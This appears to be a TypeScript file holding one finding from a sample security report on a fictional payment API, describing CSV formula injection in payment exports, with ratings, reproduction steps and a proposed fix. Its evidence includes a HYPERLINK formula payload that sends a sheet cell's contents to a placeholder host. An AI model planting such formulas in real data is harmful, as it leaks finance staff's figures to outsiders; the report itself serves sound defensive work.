import { rate } from '#content/findings/rate.ts';
import { code, paragraph } from '#content/blocks.ts';
import type { ReportFinding } from '#content/sample-report/finding.ts';

export const csvFormulas: ReportFinding = {
  id: 'MP-08',
  title: 'Exported payment lists can run formulas in a spreadsheet',
  summary:
    'CSV exports include the text that payers enter exactly as typed, so a spreadsheet might run it as a formula.',
  rating: rate({
    v31: 'CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:L/I:N/A:N',
    v40: 'CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:A/VC:N/VI:N/VA:N/SC:L/SI:N/SA:N',
  }),
  ratingNote:
    'The harm happens on the reader’s computer, which CVSS calls a subsequent system; the API itself is untouched. Current spreadsheet apps show a warning before they open a link or make an external call, and getting past that warning counts as an attack requirement.',
  cwe: { id: 'CWE-1236', name: 'Improper Neutralization of Formula Elements in a CSV File' },
  standard: 'OWASP, CSV Injection',
  assets: [
    'api.meridianpay.example: GET /v2/payments.csv',
    'backoffice.meridianpay.example, all CSV exports',
  ],
  priority: 'Within 90 days',
  owner: 'Back-office team lead',
  description: [
    paragraph(
      'A payment’s reference is free text. Common spreadsheets treat a CSV cell that begins with an equals sign, a plus, a minus or an at sign as a formula. The export quotes cells correctly, but that doesn’t help: quotes are removed before the cell is read.',
    ),
  ],
  evidence: [
    code(
      'text',
      'A line from an export, with a reference the payer chose',
      `
03-11,pay_test_31,20.00,"=HYPERLINK(""https://probe.example/?v=""&B2,""Invoice 4711"")"
`,
    ),
  ],
  reproduction: [
    'Pay a test payment link and enter the formula above as the reference.',
    'Export the merchant’s payments as CSV and open the file in a spreadsheet.',
    'The cell shows a link labeled Invoice 4711. Clicking it sends the contents of another cell to our host.',
  ],
  impact:
    'A reader who clicks the link, or dismisses a warning, sends figures from the sheet to someone else. Finance staff open these files and trust them, because they come from their own system.',
  likelihood: 'Low. Someone has to open the file and ignore the spreadsheet’s warning.',
  remediation: [
    paragraph(
      'Put an apostrophe before cells that begin with one of these characters, or with a tab or carriage return. Only do this for text that people typed, because negative amounts must stay numbers.',
    ),
    code(
      'typescript',
      'Proposed cell function',
      `
const startsFormula = /^[=+\\-@\\t\\r]/;

export function textCell(text: string): string {
  const safe = startsFormula.test(text) ? \`'\${text}\` : text;
  return \`"\${safe.replaceAll('"', '""')}"\`;
}
`,
    ),
  ],
  references: [
    { label: 'OWASP, CSV Injection', url: 'https://owasp.org/www-community/attacks/CSV_Injection' },
    { label: 'CWE-1236', url: 'https://cwe.mitre.org/data/definitions/1236.html' },
  ],
  retest: {
    status: 'Open',
    date: '2026-04-21',
    note: 'Not changed yet. Planned for the June 2026 release, along with a new export format.',
  },
};
